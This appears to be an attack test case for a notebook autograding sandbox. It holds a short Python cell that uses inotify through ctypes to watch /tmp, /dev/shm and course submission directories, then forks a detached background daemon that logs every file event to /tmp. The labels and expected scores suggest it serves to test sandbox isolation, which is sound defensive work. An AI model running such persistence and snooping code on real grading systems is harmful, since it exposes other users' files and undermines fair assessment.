# attack: Leaves a daemon that watches the course and prints every file that appears.
# gain: read
# expect: q01=3 q02=3 q03=3
# flag: processes

# %% after q01
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(0)
for name in (b"/tmp", b"/dev/shm", b"{COURSE}", b"{COURSE}/submitted", b"{COURSE}/autograded"):
    libc.inotify_add_watch(watch, name, 0xFFF)
if watch >= 0 and os.fork() == 0:
    os.setsid()
    with open("/tmp/left-by-watcher.txt", "ab", 0) as file:
        while seen := os.read(watch, 4096):
            file.write(seen)
    os._exit(0)
